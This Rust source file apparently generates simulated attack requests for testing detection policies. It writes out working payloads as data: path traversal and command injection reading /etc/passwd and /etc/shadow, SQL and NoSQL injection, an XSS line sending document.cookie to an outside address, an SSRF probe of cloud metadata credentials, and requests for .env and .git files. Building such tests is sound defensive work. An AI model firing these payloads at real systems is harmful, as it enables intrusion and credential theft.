use std::net::IpAddr;

use serde_json::{Value, json};

use super::{Attack, Visit, attacker, encoded};
use crate::network::CLIENT_V6;

const CURL: &str = "curl/8.5.0";
const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";

/// One of each, every one by an attacker of its own but for the last two, which are one scanner's.
pub fn every_attack() -> Vec<Visit> {
    let traversal = attack("path traversal", "LocalFileInclusionLFIRFI", true);
    let sql = attack("SQL injection", "SQLInjection", true);
    let command = attack("OS command injection", "OSCommandInjection", true);
    vec![
        get(attacker(7), "/api/invoices?name=", "../../../../../../../../etc/passwd", CURL, traversal),
        get(IpAddr::V6(CLIENT_V6), "/api/invoices?name=", "../../../../../../../etc/passwd", CURL, traversal),
        get(
            attacker(23),
            "/api/products?search=",
            "x' UNION SELECT id, email, password_hash FROM users-- ",
            BROWSER,
            sql,
        ),
        get(
            attacker(24),
            "/api/orders?status=",
            "open' OR '1'='1' UNION SELECT 1,2,3,4-- ",
            BROWSER,
            Attack { succeeds: false, ..sql },
        ),
        post(attacker(42), "/api/diagnostics", json!({ "host": "localhost; id; cat /etc/passwd" }), command),
        post(
            attacker(43),
            "/api/diagnostics",
            json!({ "host": "localhost' && cat /etc/shadow" }),
            Attack { succeeds: false, ..command },
        ),
        post(
            attacker(58),
            "/api/login",
            json!({ "username": { "$ne": null }, "password": { "$gt": "" } }),
            attack("NoSQL injection", "NoSQLInjection", false),
        ),
        get(
            attacker(61),
            "/api/products?search=",
            "<script>fetch('//203.0.113.61/'+document.cookie)</script>",
            BROWSER,
            attack("cross-site scripting", "XSS", false),
        ),
        get(
            attacker(77),
            "/api/invoices?name=",
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            CURL,
            attack("server-side request forgery", "SSRF", false),
        ),
        get(attacker(90), "/.git/config", "", CURL, attack("exposed files", "SecurityMisconfig", false)),
        get(attacker(90), "/.env", "", CURL, attack("exposed files", "SecurityMisconfig", false)),
    ]
}

/// A scanner that guesses paths, often enough for the policy that counts client errors.
pub fn burst() -> Vec<Visit> {
    (0..60)
        .map(|number| {
            get(
                attacker(111),
                &format!("/api/v{}/item{number}", number % 4),
                "",
                CURL,
                attack("path guessing", "High4XXAlertFilter", false),
            )
        })
        .collect()
}

const fn attack(name: &'static str, policy: &'static str, succeeds: bool) -> Attack {
    Attack { name, policy, succeeds }
}

fn get(actor: IpAddr, before: &str, value: &str, agent: &'static str, attack: Attack) -> Visit {
    let target = format!("{before}{}", encoded(value));
    Visit { actor, method: "GET", target, body: None, agent, attack: Some(attack) }
}

fn post(actor: IpAddr, target: &str, body: Value, attack: Attack) -> Visit {
    Visit {
        actor,
        method: "POST",
        target: target.to_owned(),
        body: Some(body),
        agent: CURL,
        attack: Some(attack),
    }
}
